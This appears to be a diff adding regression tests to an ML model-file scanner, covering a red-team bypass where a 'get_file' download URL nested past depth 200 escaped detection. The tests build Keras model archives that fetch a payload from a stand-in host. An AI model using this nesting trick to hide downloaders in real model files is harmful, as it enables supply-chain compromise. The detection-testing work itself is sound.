@@ -1,0 +1,67 @@
+"""Bypasses found by the session-3 red team of the format scanners (one regression test per class, with
+generated variants). Each sample is built here; nothing is loaded.
+
+- **Depth-capped URL search (Keras, CVE-2025-8747 class).** ``get_file`` is judged high only when the
+  config holds a URL; the URL search stopped silently at nesting depth 200, so a URL placed deeper (in an
+  argument list Keras passes to ``get_file``) made the object ``low`` and the model ``safe``. The walk
+  is now iterative, with no depth cap.
+"""
+
+from __future__ import annotations
+
+import json
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mlsecure.artifacts.scan import Verdict, scan_file
+from mlsecure.cli.main import main
+from mlsecure.findings import Severity
+
+URL = "https://example.invalid/payload.bin"
+
+
+def _keras(tmp_path: Path, layers: list[dict[str, Any]]) -> Path:
+    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}}
+    path = tmp_path / "model.keras"
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("metadata.json", json.dumps({"keras_version": "3.9.0"}))
+        z.writestr("config.json", json.dumps(config))
+        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
+    return path
+
+
+def _nested(value: Any, depth: int) -> Any:
+    for _ in range(depth):
+        value = [value]
+    return value
+
+
+@pytest.mark.parametrize("depth", [0, 199, 250, 600])
+@pytest.mark.parametrize("holder", ["args", "config"])
+def test_get_file_url_at_any_depth_is_high(tmp_path: Path, depth: int, holder: str) -> None:
+    layer: dict[str, Any] = {"module": "keras.utils", "class_name": "function", "config": "get_file"}
+    if holder == "args":
+        layer["args"] = ["payload.bin", _nested(URL, depth)]
+    else:
+        layer = {"module": "keras.utils", "class_name": "Dense",
+                 "config": {"fn": "get_file", "origin": _nested(URL, depth)}}
+    path = _keras(tmp_path, [layer])
+    result = scan_file(path)
+    assert result.max_severity is Severity.HIGH, result.issues
+    assert result.verdict is Verdict.MALICIOUS
+    assert main(["artifact", "scan", str(path), "--format", "json"]) == 1
+
+
+@pytest.mark.parametrize("models", [1, 49, 60, 150])
+def test_get_file_url_inside_nested_models_is_high(tmp_path: Path, models: int) -> None:
+    """The realistic shape: a get_file call with its URL as a plain argument, in a submodel of a submodel...
+    (each nesting adds four JSON levels; Keras deserialises nested models recursively)."""
+    layer: dict[str, Any] = {"module": "keras.utils", "class_name": "function", "config": "get_file",
+                             "args": ["payload.bin", URL]}
+    for i in range(models):
+        layer = {"module": "keras", "class_name": "Sequential", "config": {"name": f"m{i}", "layers": [layer]}}
+    path = _keras(tmp_path, [layer])
+    assert scan_file(path).max_severity is Severity.HIGH
